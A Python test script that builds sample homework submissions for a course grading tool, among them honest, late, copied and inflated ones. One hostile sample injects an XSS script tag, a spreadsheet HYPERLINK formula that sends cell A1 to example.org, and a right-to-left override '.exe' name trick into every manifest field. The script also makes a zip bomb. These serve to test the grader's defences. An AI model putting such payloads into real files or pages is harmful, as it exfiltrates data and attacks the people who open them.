"""A small class of submissions, good and bad, made by code and without a network.

    python tests/sample_submissions.py FOLDER

makes the folder with submissions for the stamps, some named as Canvas names them. The
labels are drawn around the true ones, so no features are needed. More files that nobody
should be able to read are made in hostile_files.py.
"""

import hashlib
import io
import json
import os
import shlex
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import numpy as np
import pandas as pd

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from course_utils import metrics
from course_utils.clustering import algorithms
from course_utils.homework import submission

DEADLINE = datetime(2025, 11, 30, 12, tzinfo=UTC)
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'
REPRESENTATIONS = ("raw", "colour", "hog", "lbp", "VGG19:fc2", "ResNet50:avg_pool")
ALGORITHMS = ("l2+kmeans", "l2+ward", "spectral")
SCORES = {name: getattr(metrics, name) for name in submission.CLAIMED}


def own_functions(**others):
    """What a student who solved the exercises hands to `exercise_values`."""

    def as_asked(score):
        return lambda true, clusters: score(labels_true=true, labels_pred=clusters)

    return {name: as_asked(score) for name, score in SCORES.items()} | others


def clusters(true_labels, representation, algorithm, seed, k, right=0.6):
    """Labels of which a share `right` follows the classes, the same for everybody.

    An algorithm without chance ignores the seed, as the real ones do.
    """
    if algorithm.split("+")[-1] not in algorithms.SEEDED:
        seed = 0
    text = f"{representation} {algorithm} {seed} {k}"
    noise = int.from_bytes(hashlib.sha256(text.encode()).digest()[:8], "big")
    generator = np.random.default_rng(noise)
    drawn = generator.integers(0, k, len(true_labels))
    follows = generator.random(len(true_labels)) < right
    return np.where(follows, np.asarray(true_labels) % k, drawn)


def table(image_set, labels):
    """Like `experiments.run`, of {(representation, algorithm, k, seed): labels}."""
    rows, by_run = [], {}
    for (representation, algorithm, k, seed), found in labels.items():
        run = f"{representation}/{algorithm}/k{k}/s{seed}"
        by_run[run] = np.asarray(found)
        rows.append(
            {"run": run, "representation": representation, "algorithm": algorithm}
            | {"k": k, "seed": seed}
            | metrics.scores(labels_true=image_set.true_labels, labels_pred=found)
        )
    return pd.DataFrame(rows), by_run


def runs(image_set, student_id, right=0.6, n_seeds=2, k=None):
    """(results, labels) of an honest student, with the seeds of the student's own.

    A share `right` of the labels follows the classes, and 0.4 times it by raw pixels.
    """
    k = k or len(image_set.class_names)
    labels, whole = {}, right
    for representation in REPRESENTATIONS:
        right = 0.4 * whole if representation == "raw" else whole
        for algorithm in ALGORITHMS:
            seeded = algorithm.split("+")[-1] in algorithms.SEEDED
            for seed in submission.seeds(student_id, n_seeds) if seeded else [0]:
                key = (representation, algorithm, k, seed)
                labels[key] = clusters(
                    image_set.true_labels, representation, algorithm, seed, k, right
                )
    return table(image_set, labels)


def hand_in(path, image_set, student_id, name, found=None, functions=None, **more):
    """Write a submission as `submit` does; found: (results, labels), of `runs`."""
    functions = own_functions() if functions is None else functions
    pairs = submission.probes(student_id)  # here: a process for each would be slow
    values = {name: [f(*pair) for pair in pairs] for name, f in functions.items()}
    answers = dict.fromkeys(submission.QUESTIONS, f"{name} thinks so.")
    return submission.submit(
        path,
        image_set,
        *(found or runs(image_set, student_id)),
        student_id=student_id,
        name=name,
        **{"exercises": values, "answers": answers} | more,
    )


def unpack(data):
    """(manifest as dictionary, labels.csv as text) of a submission's bytes."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        return manifest, archive.read("labels.csv").decode()


def zipped(members, how=zipfile.ZIP_DEFLATED):
    """A .zip of {name or ZipInfo: bytes or str}."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", how) as archive:
        for name, content in members.items():
            archive.writestr(name, content, how)
    return buffer.getvalue()


def pack(manifest, labels):
    """A submission's bytes from a dictionary or text and a text, whatever they say."""
    if isinstance(manifest, dict):
        manifest = json.dumps(manifest)
    return zipped({"manifest.json": manifest, "labels.csv": labels})


def changed(path, change):
    """Rewrite a submission with `change(manifest)`, as a student who edits it could."""
    manifest, labels = unpack(path.read_bytes())
    change(manifest)
    path.write_bytes(pack(manifest, labels))


def make_class(folder, image_set):
    """Write the sample submissions into a folder; returns {file: what it is}."""
    folder, made = Path(folder), {}
    folder.mkdir(parents=True, exist_ok=True)

    def sample(file, what, data=None, hours=-5):
        """Note a file, and let it have come so many hours after the deadline."""
        if data is not None:
            (folder / file).write_bytes(data)
        when = (DEADLINE + timedelta(hours=hours)).timestamp()
        os.utime(folder / file, (when, when))
        made[file] = what

    def good(file, what, student_id, name, hours=-5, of=image_set, change=None, **more):
        hand_in(folder / file, of, student_id, name, **more)
        if change:
            changed(folder / file, change)
        sample(file, what, hours=hours)

    anna = "andersanna_4101_90001_submission.zip"
    good(anna, "good", "anna01", "Anna Anders")
    what = "good, but late by its name and 30 hours by its time"
    good("bergbo_LATE_4102_90002_submission.zip", what, "bo02", "Bo Berg", 30)
    what = "claims scores that its labels do not have"
    good("cruzcarla_4103_90003_x.zip", what, "carla03", "Carla Cruz", change=_boast)
    what, found = "Anna's clusters with other numbers and seeds", _copied(image_set)
    good("dorndan_4104_90004_x.zip", what, "dan04", "Dan Dorn", found=found)
    what = "script, formulas and a right-to-left override in every text"
    good("evileve_4105_90005_x.zip", what, "eve05", "Eve", change=_attack)
    what, found = "one cluster, and one cluster a picture", _trivial(image_set)
    good("fay.zip", what, "fay06", "Fay", found=found)
    functions = own_functions(nmi=lambda true, clusters: 1.0, purity=lambda t, c: None)
    good("gus.zip", "two exercises are wrong", "gus07", "Gus", functions=functions)
    found = runs(image_set, "hana08", right=0.3)
    good("hana_old.zip", "older, of one student", "hana08", "Hana", -50, found=found)
    good("hana_new.zip", "newer, so that it counts", "hana08", "Hana", -3)
    good("ivan.zip", "uses Hana's student id", "hana08", "Ivan", 2)
    own, what = image_set.subset(slice(0, None, 2)), "the student's own pictures"
    found, supplied = runs(own, "jo09", right=0.3), {"self_supplied_labels": True}
    good("jo.zip", what, "jo09", "Jo", of=own, found=found, **supplied)
    whole = (folder / anna).read_bytes()
    bomb = zipped({"manifest.json": "0" * 50_000_000, "labels.csv": "0"})
    sample("kimkai_4110_90010_bomb.zip", "a zip bomb", bomb)
    sample("lolu_4111_90011_cut.zip", "cut off", whole[: len(whole) // 2])
    sample("mo.zip", "a submission inside a .zip", zipped({"mo.zip": whole}))
    sample("notes.txt", "no .zip at all", b"Dear teacher")
    return made


def _boast(manifest):
    for run in manifest["runs"]:
        run["claimed"] = dict.fromkeys(submission.CLAIMED, 0.99)


def _attack(manifest):
    manifest["student"]["name"] = f"{FORMULA}{SCRIPT}\u202egpj.exe"
    manifest["answers"] = [{"question": SCRIPT, "answer": f"{FORMULA}\n{SCRIPT}"}]
    manifest["image_set"]["name"] = SCRIPT
    manifest["versions"] = {FORMULA: SCRIPT}
    manifest["lessons"] = {FORMULA: {SCRIPT: {"state": "right", "tries": 1}}}
    manifest["runs"][0]["representation"] = FORMULA + SCRIPT
    manifest["runs"][1]["algorithm"] = FORMULA + SCRIPT


def _copied(image_set):
    """Anna's runs with chance in them, as Dan's."""
    results, labels = runs(image_set, "anna01")
    seed_of = dict(zip(*map(submission.seeds, ("anna01", "dan04")), strict=True))
    k, copied = len(image_set.class_names), {}
    for row in results.to_dict("records"):
        if row["seed"] in seed_of:
            key = row["representation"], row["algorithm"], k, seed_of[row["seed"]]
            copied[key] = (labels[row["run"]] + 1) % k
    return table(image_set, copied)


def _trivial(image_set):
    n = len(image_set)
    one, each = np.zeros(n, dtype=int), np.arange(n)
    labels = {("raw", "l2+ward", 1, 0): one, ("raw", "l2+average", n, 0): each}
    return table(image_set, labels)


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    from course_utils.images import datasets

    folder = Path(sys.argv[1])
    os.environ["COURSE_ANSWERS"] = str(folder / "no answers")  # not those kept here
    for file, what in make_class(folder, datasets.load("stamps")).items():
        print(f"{file:40} {what}")
    command = f"python -m course_utils grade {shlex.quote(str(folder))} --out graded"
    deadline = DEADLINE.isoformat(timespec="minutes")
    print(f"\n{command} --deadline {deadline} --times files")


if __name__ == "__main__":
    main()
